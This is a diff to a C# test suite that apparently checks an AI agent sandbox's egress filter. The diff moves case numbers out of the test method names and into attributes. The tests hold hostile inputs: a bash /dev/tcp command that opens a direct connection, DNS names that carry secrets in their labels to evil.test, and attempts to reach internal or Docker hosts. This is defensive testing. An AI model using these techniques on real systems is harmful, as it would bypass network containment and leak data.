@@ -48,8 +48,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N2")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N2_ShellsOwnConnection_IsRefused()
+    public async Task ShellsOwnConnection_IsRefused()
     {
         using EgressHost host = new();
         AgentRunResult result = await host.RunStrictAsync(["allowed.test"], "import subprocess; print(subprocess.run(['bash', '-c', 'echo > /dev/tcp/1.1.1.1/443'], stderr=subprocess.DEVNULL).returncode)", Token);
@@ -59,6 +60,8 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N12")]
+    [TestProperty("Case", "N16")]
     [DataRow("allowed.test.evil.test", "allowed.test.evil.test")]
     [DataRow("notallowed.test", "notallowed.test")]
     [DataRow("sub.allowed.test", "sub.allowed.test")]
@@ -67,7 +70,7 @@ public sealed class EgressAttackTests(TestContext context)
     [DataRow("host.docker.internal", "host.docker.internal")]
     [DataRow("secret.in.a.label.evil.test", "secret.in.a.label.evil.test")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N12N16_OtherName_IsNotFoundAndTold(string name, string told)
+    public async Task OtherName_IsNotFoundAndTold(string name, string told)
     {
         using EgressHost host = new();
         AgentRunResult result = await host.RunStrictAsync(["allowed.test", "*.wild.test"], $"{Attempt}attempt(lambda: socket.gethostbyname('{name}'))", Token);
@@ -78,8 +81,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N12")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N12_HostileName_IsOneLineAndNoName()
+    public async Task HostileName_IsOneLineAndNoName()
     {
         using EgressHost host = new();
         AgentRunResult result = await host.RunStrictAsync(
@@ -99,8 +103,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N5")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N5_OtherHostOrServerName_IsRefused()
+    public async Task OtherHostOrServerName_IsRefused()
     {
         using HostServer server = new(HostServer.AnswerAsync);
         using EgressHost host = new();
@@ -126,8 +131,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N6")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N6_SecondRequestForAnotherHost_IsRefused()
+    public async Task SecondRequestForAnotherHost_IsRefused()
     {
         using HostServer server = new(HostServer.AnswerAsync);
         using EgressHost host = new();
@@ -148,8 +154,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N7")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N7_LookupsByAnyWay_NeverLeave()
+    public async Task LookupsByAnyWay_NeverLeave()
     {
         using EgressHost host = new();
         AgentRunResult result = await host.RunClientAsync(
@@ -167,6 +174,7 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N9")]
     [DataRow("127.0.0.1")]
     [DataRow("10.1.2.3")]
     [DataRow("192.168.1.1")]
@@ -178,7 +186,7 @@ public sealed class EgressAttackTests(TestContext context)
     [DataRow("0.0.0.0")]
     [DataRow("224.0.0.1")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N9_AllowedNameThatLeadsInside_IsRefused(string address)
+    public async Task AllowedNameThatLeadsInside_IsRefused(string address)
     {
         using EgressHost host = new();
         AgentRunResult result = await host.Resolve("allowed.test", address).RunStrictAsync(
@@ -195,8 +203,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N13")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N13_EmptyAllowlist_LetsNothingPass()
+    public async Task EmptyAllowlist_LetsNothingPass()
     {
         using EgressHost host = new();
         AgentRunResult result = await host.RunAsync(
@@ -208,8 +217,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N15")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N15_RedirectToAnotherHost_IsCheckedAgain()
+    public async Task RedirectToAnotherHost_IsCheckedAgain()
     {
         using HostServer server = new(HostServer.AnswerAsync);
         using EgressHost host = new();
@@ -220,8 +230,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N17")]
     [Timeout(2 * Minute, CooperativeCancellation = true)]
-    public async Task N17_FloodOfConnections_IsBounded()
+    public async Task FloodOfConnections_IsBounded()
     {
         using HostServer server = new(HostServer.AnswerAsync);
         using EgressHost host = new();
@@ -262,8 +273,9 @@ public sealed class EgressAttackTests(TestContext context)
     }
 
     [TestMethod]
+    [TestProperty("Case", "N18")]
     [Timeout(Minute, CooperativeCancellation = true)]
-    public async Task N18_SocketsOfOthers_CannotBeReached()
+    public async Task SocketsOfOthers_CannotBeReached()
     {
         using EgressHost host = new();
         string path = Path.Combine(host.Sandbox.Workspace, "outside.sock");
